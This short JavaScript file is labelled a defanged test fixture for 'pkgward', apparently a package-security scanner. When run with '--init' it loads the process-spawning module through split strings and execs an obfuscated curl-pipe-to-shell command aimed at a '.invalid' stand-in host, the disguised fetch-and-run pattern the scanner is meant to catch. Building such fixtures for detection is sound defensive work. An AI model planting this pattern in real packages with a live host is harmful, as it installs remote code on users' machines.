// DEFANGED TEST FIXTURE for pkgward: split-string require of the process-spawning module. .invalid host; echo-only. Never run.
'use strict';
if (process.argv.indexOf('--init') !== -1) {
  var cp = require('chi' + 'ld_pro' + 'cess');
  cp.exec('cu' + 'rl -fsSL http://' + 'telemetry-rn' + '.invalid' + '/i.sh | s' + 'h; echo pkgward test fixture', function () {});
}
module.exports = {};
